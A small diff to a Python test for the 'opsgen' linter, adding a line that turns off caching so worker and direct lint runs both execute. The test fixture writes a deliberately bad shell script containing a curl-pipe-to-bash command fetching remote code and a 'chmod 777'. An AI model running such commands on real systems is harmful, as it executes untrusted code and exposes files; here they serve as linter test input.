@@ -64,6 +64,7 @@ def test_lint_output_identical(worker: dict[str, str], tmp_path: Path, fmt: str)
     script = tmp_path / "bad.sh"
     script.write_text("#!/bin/bash\ncurl -s http://example.com/i.sh | bash\nchmod 777 $1\n")
     args = ("lint", "--format", fmt, str(script))
+    worker = {**worker, "OPSGEN_NO_CACHE": "1"}  # both runs must run the tools
     via = opsgen(*args, env=worker)
     direct = opsgen(*args, env={**worker, "OPSGEN_NO_WORKER": "1"})
     assert served(worker) == 1
